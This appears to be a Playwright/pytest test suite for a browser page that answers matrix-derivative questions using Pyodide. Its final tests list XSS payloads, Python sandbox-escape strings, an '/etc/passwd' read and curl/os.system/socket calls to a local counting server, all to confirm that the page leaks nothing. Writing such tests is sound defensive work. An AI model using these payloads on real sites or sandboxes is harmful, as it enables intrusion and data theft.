"""The page "Ask": a stranger's question, typed or linked, answered in the browser."""

import json
import os
import re
import zipfile
from functools import partial
from http.server import BaseHTTPRequestHandler, SimpleHTTPRequestHandler, ThreadingHTTPServer
from io import BytesIO
from itertools import product
from threading import Thread
from urllib.parse import urlencode, urlsplit

import pytest
from asked import declared, reply
from axe_playwright_python.sync_playwright import Axe
from playwright.sync_api import expect
from strategies import SWEEP, some

SENT = {  # how a question reaches Python: the names there, and those of the form's fields
    "f": "formula",
    "x": "variable",
    "claimed": "claim",
    "declarations": "declared",
    "values": "values",
}
THREAD = {"formula": "tr(A*X)*tr(B*X)", "variable": "X", "claim": "kron(A,B)+kron(B,A)"}
runs_python = pytest.mark.skipif(
    "PYODIDE" not in os.environ, reason="PYODIDE names no Pyodide distribution"
)


@pytest.mark.parametrize(
    ("text", "kinds"),
    [
        ("symmetric A B, scalar t", {"symmetric": ["A", "B"], "scalar": ["t"]}),
        ('matrix="AX"', {"matrix": ["AX"]}),  # as the answer to tr(AX) says it, in Python's way
        ("""scalar='t', matrix="A B";""", {"scalar": ["t"], "matrix": ["A", "B"]}),
        (" \n", {}),
    ],
)
def test_declarations_are_read_in_words_and_in_pythons_way(text, kinds):
    assert declared(text) == kinds


class Asking:
    """The page, open in a browser; notes what is asked for and what goes wrong."""

    def __init__(self, page, address):
        self.page, self.address = page, address
        self.requests, self.problems = [], []
        page.on("request", lambda request: self.requests.append(request.url))
        page.on("pageerror", lambda error: self.problems.append(str(error)))
        page.on(
            "console",
            lambda said: self.problems.append(said.text) if said.type == "error" else None,
        )
        self.answer, self.result = page.locator("#ask-answer"), page.locator("#ask-result")

    def open(self, **question):
        self.page.goto(f"{self.address}chapters/ask.html#{urlencode(question)}")
        return self

    def type(self, **texts):
        for name, text in texts.items():
            if name in ("declared", "values") and not self.page.locator("#ask-more[open]").count():
                self.page.locator("#ask-more > summary").click()
            self.page.locator(f"#ask-{name}").fill(text)
        return self

    def ask(self, **texts):
        self.type(**texts).page.locator("#ask-button").click()
        return self

    def wait(self, state="done", seconds=120):
        expect(self.answer).to_have_attribute("data-state", state, timeout=seconds * 1000)
        return self.page.locator("#ask-result").inner_text()

    @property
    def foreign(self):
        own = urlsplit(self.address).netloc
        return [url for url in self.requests if urlsplit(url).netloc not in ("", own)]

    @property
    def python(self):
        return [url for url in self.requests if "pyodide" in url or "ask.zip" in url]


@pytest.fixture
def asking(browser, address):
    with browser.new_context(viewport={"width": 1280, "height": 900}) as context:
        yield Asking(context.new_page(), address)


@runs_python
def test_the_question_of_the_thread(asking):
    asking.open().ask(**THREAD)
    said = asking.wait()
    assert "rearrangement (the right entries in other places)" in said
    assert "vec(Aᵀ) vec(Bᵀ)ᵀ + vec(Bᵀ) vec(Aᵀ)ᵀ" in said
    assert "evidence for all sizes, not a proof" in said
    assert asking.result.locator(".katex-display").count() == 8
    assert asking.foreign == []
    assert asking.problems == []
    assert asking.page.evaluate("location.hash").startswith("#f=tr")
    asking.ask(formula="B*tr(A*X)", claim="kron(B, A)")
    assert "sizes fit only if" not in asking.wait()
    assert "vec(B) vec(Aᵀ)ᵀ" in asking.wait()


@runs_python
def test_numbers_go_to_diagnose_and_numpy_comes_then(asking):
    asking.open().ask(formula="tr(A*X)", variable="X")
    asking.wait()
    assert not [url for url in asking.requests if "numpy" in url]
    asking.ask(
        formula="tr(A*X)*tr(B*X)",
        claim="[[70, 19, 19, 4],\n [19, 22, 4, 7],\n [19, 4, 22, 7],\n [4, 7, 7, 6]]",
        values="A = [7 1; 1 3]; B = np.array([[5, 2], [2, 1]])\nX = 1\t2\n3\t4,5",
    )
    said = asking.wait()
    assert "rearrangement (the right entries in other places)" in said
    assert "-3.16636" in said
    assert [url for url in asking.requests if "numpy" in url]
    assert not [url for url in asking.requests if "sympy" in url]
    assert asking.foreign == asking.problems == []


@runs_python
def test_a_broken_formula_gets_one_sentence_that_marks_the_place(asking):
    asking.open().ask(formula="tr(A*X", variable="X")
    said = asking.wait("failed")
    assert "tr(A*X" in said
    assert "^" in said
    assert asking.result.locator("dl").count() == 0


def test_a_link_fills_the_form_and_runs_nothing(asking):
    asking.open(f="B*tr(A*X)", x="X", claim="kron(B, A)", declared="symmetric A")
    for name, text in (("formula", "B*tr(A*X)"), ("variable", "X"), ("claim", "kron(B, A)")):
        expect(asking.page.locator(f"#ask-{name}")).to_have_value(text)
    expect(asking.page.locator("#ask-declared")).to_be_visible()
    asking.page.wait_for_timeout(1000)
    assert asking.answer.get_attribute("data-state") == "idle"
    assert asking.python == asking.problems == []


@runs_python
def test_no_answer_stands_beside_another_question(asking):
    asking.open().ask(formula="tr(A*X)", variable="X")
    asking.wait()
    asking.type(formula="tr(B*X)")
    assert asking.answer.get_attribute("data-state") == "idle"
    assert asking.result.inner_text() == ""
    asking.ask()
    asking.wait()
    asking.page.evaluate("location.hash = '#f=det(X)&x=X'")
    expect(asking.answer).to_have_attribute("data-state", "idle")
    assert asking.result.inner_text() == ""


def test_a_link_fills_the_form_again(asking):
    link, typed = (asking.open().page.locator(name) for name in (".asked-again", "#ask-formula"))
    link.first.click()
    linked = typed.input_value()
    assert linked
    typed.fill("X")
    link.first.click()
    expect(typed).to_have_value(linked)


@runs_python
def test_the_keyboard_is_enough(asking):
    asking.page.context.grant_permissions(["clipboard-read", "clipboard-write"])
    asking.open().page.locator("#ask-formula").focus()
    press, write = asking.page.keyboard.press, asking.page.keyboard.type
    write("tr(A*X)")
    press("Tab")
    write("X")
    for key in ("Tab", "Tab", "Enter", "Tab"):  # past the claim, and the rest unfolded
        press(key)
    write("symmetric A")
    for key in ("Tab", "Tab", "Enter"):
        press(key)
    assert "∇f(X)=A" in asking.wait()
    expect(asking.page.locator("#ask-button")).to_be_focused()
    for key in ("Tab", "Tab", "Enter", "Tab", "Enter"):  # past the link, to the code
        press(key)
    expect(asking.page.locator("#ask-copied")).to_have_text("NumPy copied.")
    assert "def gradient(" in asking.page.evaluate("navigator.clipboard.readText()")


@runs_python
def test_an_answer_fits_a_phone_and_axe_finds_nothing_in_it(browser, address):
    with browser.new_context(viewport={"width": 360, "height": 740}) as context:
        asking = Asking(context.new_page(), address).open().ask(**THREAD)
        asking.wait()
        check_phone(asking.page)
        asking.ask(formula="norm(A*inv(X)*B - C)^2", claim="A'*(A*inv(X)*B - C)*B'")
        asking.wait()
        check_phone(asking.page)
        asking.ask(formula="W" * 500).wait("failed")
        check_phone(asking.page)
        assert asking.problems == []


def check_phone(page):
    """Nothing moves sideways but what says so, and axe finds nothing."""
    for scheme in ("light", "dark"):
        page.emulate_media(color_scheme=scheme)
        assert page.evaluate("document.documentElement.scrollWidth") == 360
        found = Axe().run(page, {"exclude": [[".katex-html"]]}).response["violations"]
        assert [(each["id"], each["nodes"][0]["html"][:200]) for each in found] == [], scheme


def test_loading_stops_at_a_press_and_can_be_tried_again(asking):
    asking.page.route("**/pyodide.js", lambda route: None)  # never answered
    asking.open().ask(**THREAD)
    expect(asking.answer).to_have_attribute("data-state", "loading")
    asking.page.locator("#ask-stop").click()
    expect(asking.answer).to_have_attribute("data-state", "idle")
    assert "Stopped" in asking.page.locator("#ask-status").inner_text()
    expect(asking.page.locator("#ask-button")).to_be_focused()
    asking.ask()
    expect(asking.answer).to_have_attribute("data-state", "loading")


NEEDED = ["pyodide.js", "pyodide.asm.wasm", "pyodide.asm.js", "python_stdlib.zip", "ask.zip"]


@runs_python
@pytest.mark.parametrize("lost", NEEDED if SWEEP else NEEDED[::4])
def test_what_cannot_be_fetched_is_named_and_can_be_tried_again(asking, lost):
    asking.page.context.route(f"**/{lost}", lambda route: route.abort())
    asking.open().ask(**THREAD)
    asking.wait("failed")
    assert "could not be" in asking.page.locator("#ask-status").inner_text()
    asking.page.context.unroute_all()
    asking.ask()
    asking.wait()


@runs_python
@pytest.mark.parametrize("cut", NEEDED if SWEEP else NEEDED[1::2])
def test_a_network_cut_half_way_is_told_and_can_be_tried_again(browser, site, cut):
    lost = [cut]

    class Cutting(SimpleHTTPRequestHandler):
        def copyfile(self, source, target):
            body = source.read()
            target.write(body[: len(body) // 2] if self.path.endswith(tuple(lost)) else body)

        def log_message(self, *args):
            pass

    handler = partial(Cutting, directory=site)
    with ThreadingHTTPServer(("127.0.0.1", 0), handler) as server, browser.new_context() as context:
        Thread(target=server.serve_forever, daemon=True).start()
        asking = Asking(context.new_page(), f"http://127.0.0.1:{server.server_port}/")
        asking.open().ask(**THREAD).wait("failed", seconds=60)
        assert "could not be" in asking.page.locator("#ask-status").inner_text()
        lost.clear()
        asking.ask().wait()
        server.shutdown()


@runs_python
def test_once_python_is_there_no_network_is_needed(asking):
    asking.open().ask(**THREAD).wait()
    asking.page.context.set_offline(True)
    asking.ask(formula="B*tr(A*X)", claim="kron(B, A)")
    assert "rearrangement" in asking.wait()


def test_loading_has_an_end(asking):
    asking.page.clock.install()
    asking.page.route("**/pyodide.js", lambda route: None)
    asking.open().ask(**THREAD)
    expect(asking.answer).to_have_attribute("data-state", "loading")
    asking.page.clock.run_for(91_000)
    asking.wait("failed")
    assert "90 seconds" in asking.page.locator("#ask-status").inner_text()


def test_a_folder_gets_a_sentence(browser, site):
    with browser.new_context() as context:
        page = context.new_page()
        page.goto(f"{(site / 'chapters' / 'ask.html').as_uri()}#f=det(X)&x=X")
        page.locator("#ask-button").click()
        expect(page.locator("#ask-answer")).to_have_attribute("data-state", "failed")
        assert "Serve the folder" in page.locator("#ask-status").inner_text()


def test_the_page_asks_for_nothing_that_its_policy_forbids(site):
    page = (site / "chapters" / "ask.html").read_text("utf-8")
    assert "default-src 'none'" in page
    assert 'rel="prev"' in page
    assert 'rel="next"' not in page


def test_worked_answers_need_no_javascript(browser, address):
    with browser.new_context(java_script_enabled=False) as context:
        page = context.new_page()
        page.goto(f"{address}chapters/ask.html")
        assert page.locator(".asked").count() == 5
        first = page.locator(".asked").first
        assert "rearrangement (the right entries in other places)" in first.inner_text()
        assert first.locator(".katex-display").filter(visible=True).count() == 8
        assert page.locator("noscript p").is_visible()


# What people claimed in public, and what the page is to say: the verdict, and what is right.
THREADS = {
    "Mathematics Stack Exchange 118792": (
        {"formula": "tr(A*X*B)", "variable": "X", "claim": "B*A"},
        ["rearrangement", "j,i (the shape of Xᵀ: numerator layout (Jacobian))", "∇f(X) = Aᵀ Bᵀ"],
    ),
    "Mathematics Stack Exchange 2860061": (
        {"formula": "log(det(X))", "variable": "X", "claim": "inv(X)"},
        ["rearrangement", "j,i (the shape of Xᵀ: numerator layout (Jacobian))", "∇f(X) = X⁻ᵀ"],
    ),
    "Mathematics Stack Exchange 1991657": (
        {"formula": "norm(X' - A)^2", "variable": "X", "claim": "2*X' - A - A'"},
        [
            "no match",
            "if A were symmetric, also: j,i (the shape of Xᵀ: numerator layout (Jacobian))",
            "∇f(X) = 2 (X − Aᵀ)",
        ],
    ),
    "Mathematics Stack Exchange 2795939": (
        {
            "formula": "norm(P - A*B')^2 + norm(Q - A*C')^2",
            "variable": "B",
            "claim": "2*(B*A'*A - P'*A)",
        },
        ["representation", "i,j (the shape of B: denominator layout", "∇f(B) = 2 (A Bᵀ − P)ᵀ A"],
    ),
    "Mathematics Stack Exchange 3979526": (
        {"formula": "tr(G'*X*W)", "variable": "X", "claim": "W'*G"},
        ["no match", "sizes fit only if: n = m", "∇f(X) = G Wᵀ"],
    ),
    "Mathematics Stack Exchange 4309162": (
        {"formula": "tr(G'*X*W')", "variable": "W", "claim": "G'*X"},
        ["representation", "i,j (the shape of W: denominator layout", "∇f(W) = Gᵀ X"],
    ),
    "Mathematics Stack Exchange 3453364": (
        {
            "formula": "-ν/2*log(det(Σ)) - tr(S*inv(Σ))/2",
            "variable": "Σ",
            "claim": "-ν/2*inv(Σ) + inv(Σ)*S*inv(Σ)/2",
            "declared": "symmetric S",
        },
        [
            "rearrangement",
            "j,i (the shape of Σᵀ: numerator layout",
            "∇f(Σ) = 1/2 Σ⁻ᵀ S Σ⁻ᵀ − 1/2 ν Σ⁻ᵀ",
        ],
    ),
    "Cross Validated 235528": (
        {
            "formula": "-sum(t .* log(exp(z)/sum(exp(z))))",
            "variable": "z",
            "claim": "exp(z)/sum(exp(z)) - t",
        },
        ["no match", "∇f(z) = sum(t) exp(z) / sum(exp(z)) − t"],
    ),
    "PyLops, issue 125": (
        {
            "formula": "L*X",
            "variable": "X",
            "claim": "[[1. 0. 0. 0.]\n [0. 0. 1. 0.]\n [1. 1. 0. 0.]\n [0. 0. 1. 1.]]",
            "values": "L = np.array([[1.0, 0.0],\n              [1.0, 1.0]])\nX = [1 2; 3 4]",
        },
        ["mixed orders", "ij,lk", "transpose(1, 0, 2, 3)", "[Df(X)] in order F = Iₙ ⊗ L"],
    ),
    "diff-gaussian-rasterization, issue 94": (
        {
            "formula": "-d'*C*d/2",
            "variable": "C",
            "claim": "[-4.5 -6; -6 -2]",
            "values": "d = [3 2]; C = [2 1; 1 3]",
        },
        ["no match", "the n(n+1)/2 coordinates of a symmetric X", "∇f(C) = −1/2 d dᵀ"],
    ),
}


@pytest.mark.parametrize("thread", THREADS)
def test_what_people_claimed(thread):
    typed, expected = THREADS[thread]
    question = {sent: typed[name] for sent, name in SENT.items() if name in typed}
    found = json.loads(reply(json.dumps(question)))
    said = [f"{heading}: {text}" for heading, text in found["verdict"]]
    said += [row["text"] for row in found["rows"]]
    assert f"verdict: {expected[0]} (" in "\n".join(said)
    assert [text for text in expected[1:] if text not in "\n".join(said)] == []


@runs_python
def test_what_people_claimed_in_the_browser(asking):
    asking.open()
    for typed, (verdict, *_) in THREADS.values():
        asking.ask(**{"claim": "", "declared": "", "values": ""} | typed)
        assert f"Verdict\n{verdict} (" in asking.wait()
    assert asking.foreign == asking.problems == []


HOSTILE = [
    "<script>hit()</script>", "<img src=x onerror=hit()>", "<svg onload=hit()>", "</pre><b>x</b>",
    "javascript:hit()", "');hit();('", '"};hit();{"', "${hit()}", "{{7*7}}", "<!--", "]]>",
    "__import__('os').system('x')", "eval('1')", "exec('x=1')", "open('/etc/passwd')",
    "X.__class__.__mro__", "(lambda: 0)()", "[c for c in ().__class__.__base__.__subclasses__()]",
    "import js", "js.fetch('//x')", "X;import os", "X\nimport os", "f'{X}'", "%s%n",
    "{0.__class__}",
    r"\href{javascript:hit()}{x}", r"\def\a{\a\a}\a", r"\includegraphics{//x/y.png}", r"$\url{x}$",
    r"\htmlStyle{color:red}{x}", r"\rule{999em}{999em}", "x}\\href{javascript:hit()}{", "_{" * 200,
    "^{" * 200, "(" * 400, ")" * 400, "[" * 400, "-" * 499, "X'" * 249, "X+" * 249 + "X",
    "X*" * 249 + "X", "((((X^32)^32)^32)^32)^32", "9^9^9^9", "2^9999999", "1e999999999*X",
    "0x10*X", "1_000*X", "A" * 500, "\u202eX", "X\u0000", "\ud83d\ude00", "Ｘ＊Ｘ", "ᵀ" * 300, "½X",
    "#&=?/",
    "%3Cscript%3E", "constructor", "__proto__", "toString", "kron(" * 90,
    "exp(" * 59 + "X" + ")" * 59,
    "inv(" * 30 + "X" + ")" * 30, "I(999999999)*X", "ones(99999,99999)", "K(99999,99999)*vec(X)",
]  # fmt: skip

ENDED = re.compile("done|failed")
CHANGED = """() => [
  document.querySelectorAll("script:not([data-katex]), iframe, object, embed, img").length,
  document.querySelectorAll("#ask-answer :is(a, img, script, iframe, svg:not(.katex svg))").length,
  localStorage.length, sessionStorage.length, document.cookie, location.pathname, document.title,
].join()"""


@runs_python
def test_hostile_text_changes_nothing(asking, elsewhere):
    url, hits = elsewhere
    asking.open().ask(**THREAD)
    asking.wait()
    before = asking.page.evaluate(CHANGED)
    for name, text in some(product(SENT.values(), HOSTILE), 26):
        asking.type(**THREAD | {"declared": "", "values": ""}).ask(**{name: aimed(text, url)})
        expect(asking.answer).to_have_attribute(
            "data-state", re.compile("done|failed"), timeout=60_000
        )
        assert asking.page.evaluate(CHANGED) == before, text
    assert hits == asking.foreign == []
    assert [problem for problem in asking.problems if "cannot be parsed" not in problem] == []


def test_hostile_links_fill_the_form_and_change_nothing(asking, elsewhere):
    url, hits = elsewhere
    asking.open(f="X", x="X")
    before = asking.page.evaluate(CHANGED)
    assert len(HOSTILE) >= 50
    for text in some(HOSTILE, 18):
        question = dict.fromkeys(("f", "x", "claim", "declared", "values"), aimed(text, url))
        for fragment in (urlencode(question, errors="replace"), f"f={text}", text):
            asking.page.evaluate("text => { location.hash = text }", fragment)
            asking.page.evaluate("new Promise(requestAnimationFrame)")
            assert asking.page.evaluate(CHANGED) == before, text
            assert asking.answer.get_attribute("data-state") == "idle"
    assert hits == asking.foreign == asking.python == asking.problems == []


def aimed(text, url):
    """Let a hostile text point to where somebody counts."""
    return text.replace("//x", url.removeprefix("http:")).replace("hit()", f"fetch('{url}')")


GOT_JS = """
import gc, sys
for name in ("js", "pyodide_js", "_pyodide_core", "pyodide", "pyodide.ffi", "ctypes"):
    sys.modules.pop(name, None)
finders = [f for f in sys.meta_path if hasattr(f, "jsproxies")]
proxies = [o for o in gc.get_objects() if type(o).__name__ == "JsProxy"]
proxies += [p for f in finders for p in f.jsproxies.values()]
try:
    import js
    proxies.append(js)
except BaseException:
    pass
def each(action):
    said = []
    for proxy in proxies:
        try:
            said.append(action(proxy))
        except BaseException as error:
            said.append(repr(error)[:80])
    return said or "nothing to try"
"""
REACHES = [
    "proxy.fetch(URL)", "proxy.XMLHttpRequest.new().open('GET', URL)", "proxy.WebSocket.new(WS)",
    "proxy.EventSource.new(URL)", "proxy.importScripts(URL)", "proxy.eval(f'fetch(\"{URL}\")')",
    "proxy.Function.new(f'fetch(\"{URL}\")')()", "proxy.Worker.new(URL)", "proxy.loadPackage(URL)",
    "proxy.constructor.constructor(f'return fetch(\"{URL}\")')()", "proxy.runPython('import js')",
    "proxy.constructor.constructor(f'return import(\"{URL}\")')()", "proxy.indexedDB.open('mine')",
    "proxy.caches.open('mine')", "proxy.BroadcastChannel.new('x').postMessage('x')",
    "proxy.postMessage('forged')", "proxy.navigator.storage.getDirectory()", "proxy.FS.mkdir('/m')",
    "proxy.FS.mount(proxy.FS.filesystems.IDBFS, {}, '/m')", "proxy.FS.syncfs(False, print)",
    "proxy.setTimeout(f'fetch(\"{URL}\")', 0)", "proxy.FontFace.new('x', f'url({URL})').load()",
    "proxy.Object.getPrototypeOf(proxy).constructor.constructor('return self')().fetch(URL)",
    "proxy.WebTransport.new(URL)", "proxy.location.assign(URL)", "proxy.open(URL)",
]  # fmt: skip
WAYS_OUT = [f"{GOT_JS}\nfound = each(lambda proxy: {reach})" for reach in REACHES] + [
    "import urllib.request\nurllib.request.urlopen(URL)",
    "import http.client\nhttp.client.HTTPConnection(URL[7:]).request('GET', '/')",
    "import socket\nsocket.create_connection(('127.0.0.1', int(URL.rsplit(':', 1)[1])))",
    "import subprocess\nsubprocess.run(['curl', URL])",
    "import os\nos.system('curl ' + URL)",
    "import webbrowser\nwebbrowser.open(URL)",
    "import pyodide.http\npyodide.http.open_url(URL)",
    "import pyodide.code\npyodide.code.run_js('fetch')",
    "import js\njs.fetch(URL)",
    "import pyodide_js\npyodide_js.loadPackage(URL)",
    "import ctypes\nctypes.CDLL(None).emscripten_run_script(b'1')",
    "import _ctypes\n_ctypes.dlopen('', 0)",
    "import importlib\nimportlib.reload(importlib.import_module('js')).fetch(URL)",
]
RUNS_ANYTHING = """
import json
def reply(question):
    names = {"URL": "@URL@", "WS": "@URL@".replace("http", "ws")}
    try:
        exec(json.loads(question)["f"], names)
        return json.dumps({"refused": "found: " + repr(names.get("found"))[:1500]})
    except BaseException as error:
        return json.dumps({"refused": "raised: " + repr(error)[:1500]})
"""


@pytest.fixture
def elsewhere():
    """Serve at another address, which anybody may ask, and note who does."""
    hits = []

    class Counter(BaseHTTPRequestHandler):
        def do_GET(self):
            hits.append(self.path)
            self.send_response(200)
            self.send_header("Access-Control-Allow-Origin", "*")
            self.end_headers()

        do_POST = do_OPTIONS = do_GET

        def log_message(self, *args):
            pass

    with ThreadingHTTPServer(("127.0.0.1", 0), Counter) as server:
        Thread(target=server.serve_forever, daemon=True).start()
        yield f"http://127.0.0.1:{server.server_port}", hits
        server.shutdown()


TYPE = """code => {
  const field = document.getElementById("ask-formula");
  Object.defineProperty(field, "value", { get: () => code, set() {}, configurable: true });
}"""
STORED = """async () => [
  (await indexedDB.databases()).length, (await caches.keys()).length, localStorage.length,
  (await navigator.storage.estimate()).usage,
].join()"""


@runs_python
def test_python_that_means_ill_gets_nothing_out(asking, elsewhere):
    url, hits = elsewhere
    archive = BytesIO()
    with zipfile.ZipFile(archive, "w") as hostile:
        hostile.writestr("asked.py", RUNS_ANYTHING.replace("@URL@", url))
    asking.page.context.route("**/ask.zip", lambda route: route.fulfill(body=archive.getvalue()))
    asking.open()
    asking.page.evaluate("url => fetch(url).catch(() => 0)", url)
    assert hits == [], "the page itself is not to ask others"
    before = asking.page.evaluate(STORED)
    said = {}
    asking.ask(formula="1", variable="X")
    asking.wait("failed")
    asking.page.wait_for_load_state("networkidle")
    usual = {*asking.requests, f"{asking.address}_static/favicon.svg"}
    assert len(WAYS_OUT) >= 30
    tried = some(WAYS_OUT, 13)
    for code in tried:
        asking.type(formula="1")  # which clears the last answer
        asking.page.evaluate(TYPE, code)  # the field itself takes one line
        asking.page.locator("#ask-button").click()
        said[code[-70:]] = asking.wait("failed")
    asking.page.wait_for_timeout(1000)
    assert {*asking.requests} <= usual, "what starts a worker again, and nothing else"
    assert hits == []
    assert len(said) == len(tried)
    assert asking.page.evaluate(STORED) == before
    assert asking.page.locator("#ask-status").inner_text() != "forged"
    print(json.dumps(said, indent=1))
